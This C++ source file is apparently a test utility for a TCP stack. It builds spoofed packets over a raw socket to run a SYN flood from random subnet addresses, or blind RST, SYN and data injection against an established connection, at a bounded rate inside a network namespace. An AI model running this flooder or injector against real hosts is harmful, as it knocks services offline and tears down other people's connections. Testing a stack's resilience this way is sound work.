// syn_flood: spoofed segments for the netns tests syn-flood and
// blind-attack, and for `scripts/bench tun` (root, inside a namespace of
// their own).
//
//   syn_flood --to 198.18.0.2 --port 80 --from 198.18.0.0/24 --rate 20000 --seconds 5
//   syn_flood --to 198.18.0.2 --port 7 --tuple 198.18.0.1:45000 --kind mix --count 10000
//
// Without --tuple, each SYN comes from a random host of --from (never the
// addresses given by --skip: hosts that exist would answer our SYN-ACKs
// with RST) and a random port, with a random ISN and an MSS option. Nothing
// answers the SYN-ACKs: the half-open entries stay until they time out,
// which is the attack. With --tuple every segment claims to come from that
// address and port, the 4-tuple of an established connection, as a blind
// off-path attacker would send them (RFC 5961): --kind rst, syn, data
// (ACK with 16 bytes of payload) or mix (a random one of the three each
// time), with random sequence and acknowledgment numbers. Segments are
// built by impl/wire's emit and sent through a raw socket, so Linux routes
// them into the TUN device like any packet to that address. --rate 0 sends
// as fast as the socket takes them. Prints one line of JSON: segments sent,
// seconds.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <random>
#include <string>
#include <string_view>
#include <tcpmc/net/tun.hpp>
#include <tcpmc/wire/codec.hpp>
#include <thread>
#include <vector>

int main(int argc, char** argv) {
  namespace net = tcpmc::net;
  namespace wire = tcpmc::wire;
  CLI::App app{"SYNs from spoofed addresses of a subnet, at a bounded rate for a bounded time"};
  std::string to, from;
  std::uint16_t port = 80;
  double rate = 10000, seconds = 5;
  std::uint64_t seed = 1;
  std::vector<std::string> skip;
  std::string tuple, kind = "syn";
  std::uint64_t count = 0;
  app.add_option("--to", to, "Target address")->required();
  app.add_option("--port", port, "Target port");
  auto* from_opt =
      app.add_option("--from", from, "Subnet the spoofed sources are drawn from, A.B.C.D/NN");
  app.add_option("--tuple", tuple, "Claim this source A.B.C.D:PORT (a connection's peer)")
      ->excludes(from_opt);
  app.add_option("--kind", kind, "syn, rst, data or mix (mix and data need --tuple)")
      ->check(CLI::IsMember({"syn", "rst", "data", "mix"}));
  app.add_option("--count", count, "Stop after this many segments (0: only --seconds stops)");
  app.add_option("--skip", skip, "Addresses never used as a source (the kernel's own)");
  app.add_option("--rate", rate, "SYNs per second; 0: as fast as possible")
      ->check(CLI::Range(0.0, 10'000'000.0));
  app.add_option("--seconds", seconds, "How long")->check(CLI::Range(0.1, 120.0));
  app.add_option("--seed", seed, "Seed of the sources, ports and ISNs");
  CLI11_PARSE(app, argc, argv);

  const auto target = net::parse_ipv4(to);
  const auto subnet = net::parse_ipv4_prefix(from.empty() ? "0.0.0.0/30" : from);
  std::optional<wire::Ipv4Address> fixed_source;
  std::uint16_t fixed_port = 0;
  if (!tuple.empty()) {
    const auto colon = tuple.rfind(':');
    fixed_source = net::parse_ipv4(tuple.substr(0, colon == std::string::npos ? 0 : colon));
    fixed_port = static_cast<std::uint16_t>(
        colon == std::string::npos ? 0 : std::strtoul(tuple.c_str() + colon + 1, nullptr, 10));
    if (!fixed_source || fixed_port == 0) {
      std::fprintf(stderr, "syn_flood: --tuple '%s' is not A.B.C.D:PORT\n", tuple.c_str());
      return 2;
    }
  }
  if (!target || !subnet || (!fixed_source && (from.empty() || subnet->length < 8 ||
                                               subnet->length > 30))) {
    std::fprintf(stderr, "syn_flood: --to A.B.C.D and --from A.B.C.D/NN (/8 to /30) or --tuple\n");
    return 2;
  }
  if (!fixed_source && kind != "syn") {
    std::fprintf(stderr, "syn_flood: --kind %s needs --tuple\n", kind.c_str());
    return 2;
  }
  std::vector<std::uint32_t> excluded{target->to_u32()};
  for (const auto& s : skip) {
    const auto a = net::parse_ipv4(s);
    if (!a) {
      std::fprintf(stderr, "syn_flood: --skip '%s' is not A.B.C.D\n", s.c_str());
      return 2;
    }
    excluded.push_back(a->to_u32());
  }

  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // IP_HDRINCL implied
  if (fd < 0) {
    std::fprintf(stderr, "syn_flood: raw socket: %s (needs root or CAP_NET_RAW)\n",
                 std::strerror(errno));
    return 2;
  }
  sockaddr_in dst{};
  dst.sin_family = AF_INET;
  dst.sin_addr.s_addr = htonl(target->to_u32());

  std::mt19937_64 rng(seed);
  const std::uint32_t host_bits = 32 - subnet->length;
  const std::uint32_t base = subnet->address.to_u32() & ~((1U << host_bits) - 1);
  wire::SegmentRepr syn;
  syn.ip.destination = *target;
  syn.tcp.destination_port = port;
  syn.tcp.flags = wire::TcpFlags(wire::TcpFlag::Syn);
  syn.tcp.window = 64240;
  syn.tcp.options.mss = 1460;
  std::array<std::byte, 128> packet{};
  const std::array<std::byte, 16> junk{};  // the payload of injected data

  using Clock = std::chrono::steady_clock;
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  while (Clock::now() < end && (count == 0 || sent < count)) {
    if (fixed_source) {
      syn.ip.source = *fixed_source;
      syn.tcp.source_port = fixed_port;
      const std::string_view k =
          kind == "mix" ? std::array<std::string_view, 3>{"syn", "rst", "data"}[rng() % 3]
                        : std::string_view(kind);
      syn.tcp.payload = {};
      syn.tcp.options.mss.reset();
      syn.tcp.ack = 0;
      if (k == "syn") {
        syn.tcp.flags = wire::TcpFlags(wire::TcpFlag::Syn);
        syn.tcp.options.mss = 1460;
      } else if (k == "rst") {
        syn.tcp.flags = wire::TcpFlags(wire::TcpFlag::Rst);
      } else {
        syn.tcp.flags = wire::TcpFlag::Ack | wire::TcpFlag::Psh;
        syn.tcp.ack = static_cast<std::uint32_t>(rng());
        syn.tcp.payload = junk;
      }
    } else {
      // Host part from 1 to 2^h - 2: never the network or broadcast address.
      std::uint32_t source = 0;
      do {
        source = base | (1 + static_cast<std::uint32_t>(rng() % ((1U << host_bits) - 2)));
      } while (std::find(excluded.begin(), excluded.end(), source) != excluded.end());
      syn.ip.source = wire::Ipv4Address::from_u32(source);
      syn.tcp.source_port = static_cast<std::uint16_t>(1024 + rng() % 64000);
    }
    syn.ip.identification = static_cast<std::uint16_t>(rng());
    syn.tcp.seq = static_cast<std::uint32_t>(rng());
    const auto n = wire::emit(syn, packet);
    if (!n) return 1;
    if (sendto(fd, packet.data(), *n, 0, reinterpret_cast<const sockaddr*>(&dst), sizeof dst) > 0) {
      ++sent;
    } else if (errno != ENOBUFS && errno != EAGAIN) {
      std::fprintf(stderr, "syn_flood: sendto: %s\n", std::strerror(errno));
      return 1;
    }
    if (rate > 0) {  // pace: never ahead of sent/rate seconds since the start
      const auto due = start + std::chrono::duration<double>(static_cast<double>(sent) / rate);
      if (due > Clock::now()) std::this_thread::sleep_until(due);
    }
  }
  const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
  std::printf("{\"segments\": %llu, \"seconds\": %.3f, \"per_second\": %.0f}\n",
              static_cast<unsigned long long>(sent), elapsed, static_cast<double>(sent) / elapsed);
  close(fd);
  return 0;
}
